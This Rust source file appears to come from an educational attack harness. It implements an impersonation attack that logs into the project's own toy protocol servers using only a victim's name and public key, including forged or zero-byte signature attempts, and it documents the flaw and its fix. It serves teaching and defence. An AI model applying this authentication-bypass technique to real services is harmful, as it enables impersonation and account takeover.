//! Logs in as a user from the name and the *public* key.
//!
//! # Flaw
//! The faithful login is the user's name, encrypted with the user's public key. Who holds the public key can make it.
//!
//! # Attack
//! Encrypt the name; send it. Against hardened, with the victim's password thrown in: prove the victim's key with the
//! attacker's own, with a signature of zeros, and enter under the attacker's own key.
//!
//! # What it proves
//! Encryption *to* somebody says nothing about who encrypted. A login must be a proof of something secret.
//!
//! # Defence
//! The client signs the transcript with its private key (`sigC`), and the server checks that before anything else.
//!
//! # In the wild
//! libssh CVE-2018-10933: a client that simply said that it was logged in, was.

use futures_util::future::BoxFuture;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use zeroize::Zeroizing;

use crate::{
    Attack, Claim, Goal, Report, Run, Story, Target,
    net::keyfile::public_from_pem,
    protocol::{
        faithful::{handshake, keys::PublicKey, message, record::Sealer},
        hardened::{
            handshake::{ExpectServerHello, Verdict},
            message::{SERVER_HELLO_LEN, UserName},
            session::KIND_TEXT,
            signature::{SignError, Signer},
        },
    },
    vantage::{Outsider, read_record},
};

/// The registry's line.
pub const ATTACK: Attack = Attack {
    id: "impersonate",
    goal: Goal::LogIn,
    title: "log in from the name and the public key",
    vantage: "a client of the server who has the victim's name and public key (and the password, where there is one)",
    run: Run::Dial(run),
};

/// Left on the server as the victim's words.
const SAID: &str = "this is not who you think it is";

fn run<'a>(outsider: &'a Outsider<'a>) -> BoxFuture<'a, Report> {
    Box::pin(async move {
        let mut story = Story::default();
        let result = match outsider.target {
            Target::Faithful => faithful(outsider, &mut story).await,
            Target::Hardened => hardened(outsider, &mut story).await,
        };
        Report::of_dialogue(result, story)
    })
}

async fn faithful(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let key = PublicKey::from_pem(outsider.public_key)?;
    let user = message::UserName::parse(outsider.user)?;
    let (state, login) = handshake::ExpectReplies::start(&user, &key)?;
    story.tell(format!(
        "Mallory encrypts \"{}\" with the public key: {} bytes, made without any secret",
        outsider.user,
        login.len()
    ));
    let mut stream = outsider.dial.dial().await?;
    stream.write_all(&login).await?;

    let mut replies = [0; message::REPLIES_LEN];
    stream.read_exact(&mut replies).await?;
    let secrets = state.replies(&replies)?;
    story.tell("server -> Mallory: \"Authentication Successful!\", a session key and an IV");
    stream
        .write_all(&Sealer::new(&secrets).seal(SAID.as_bytes())?)
        .await?;
    story.tell(format!(
        "Mallory -> server, as {}: \"{SAID}\"",
        outsider.user
    ));
    Ok(logged_in(outsider))
}

/// Makes something that is to pass for a signature.
type Forge<'a> = dyn Fn(&[u8]) -> Result<Vec<u8>, SignError> + Send + Sync + 'a;

/// Shows one key, and signs in whatever way there is.
struct Borrowed<'a> {
    shown: &'a [u8],
    forge: &'a Forge<'a>,
}

impl Signer for Borrowed<'_> {
    fn public_key(&self) -> &[u8] {
        self.shown
    }
    fn sign(&self, message: &[u8]) -> Result<Vec<u8>, SignError> {
        (self.forge)(message)
    }
}

async fn hardened(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let own = &*outsider.own_key;
    let stolen = public_from_pem(outsider.public_key.as_bytes())?;
    let tries: [(&str, &[u8], &Forge<'_>); 3] = [
        (
            "the victim's key, signed with Mallory's own",
            &stolen,
            &|m| own.sign(m),
        ),
        ("the victim's key, signed with zeros", &stolen, &|_| {
            Ok(vec![0; 384])
        }),
        (
            "Mallory's own key, honestly signed",
            own.public_key(),
            &|m| own.sign(m),
        ),
    ];
    for (how, shown, forge) in tries {
        story.tell(format!(
            "Mallory -> server: I am {}; {how}; the right password",
            outsider.user
        ));
        if log_in(outsider, &Borrowed { shown, forge }).await? {
            story.tell(format!(
                "server -> Mallory: welcome; Mallory says \"{SAID}\""
            ));
            return Ok(logged_in(outsider));
        }
        story.tell("server -> Mallory: no");
    }
    Ok(Claim::Nothing)
}

/// A whole login with a key of the attacker's making; true when the server believed it.
async fn log_in(outsider: &Outsider<'_>, key: &dyn Signer) -> anyhow::Result<bool> {
    let mut stream = outsider.dial.dial().await?;
    let (state, hello) = ExpectServerHello::start(outsider.ephemeral());
    stream.write_all(&hello).await?;
    let mut server_hello = [0; SERVER_HELLO_LEN];
    stream.read_exact(&mut server_hello).await?;
    let state = state.server_hello(&server_hello)?;
    let proven = state.server_auth(&read_record(&mut stream).await?, &*outsider.verifier)?;
    let pin = proven.fingerprint();
    let password = Zeroizing::new(outsider.password.unwrap_or_default().to_vec());
    let (state, proof) =
        proven
            .pinned(&pin)?
            .login(&UserName::parse(outsider.user)?, key, &password)?;
    stream.write_all(&proof).await?;
    match state.verdict(&read_record(&mut stream).await?)? {
        Verdict::Refused => Ok(false),
        Verdict::Accepted { mut session, .. } => {
            let (_, record) = session.send(KIND_TEXT, SAID)?;
            stream.write_all(&record).await?;
            read_record(&mut stream).await?;
            Ok(true)
        }
    }
}

fn logged_in(outsider: &Outsider<'_>) -> Claim {
    Claim::LoggedIn {
        user: outsider.user.to_owned(),
        said: Some(SAID.to_owned()),
    }
}
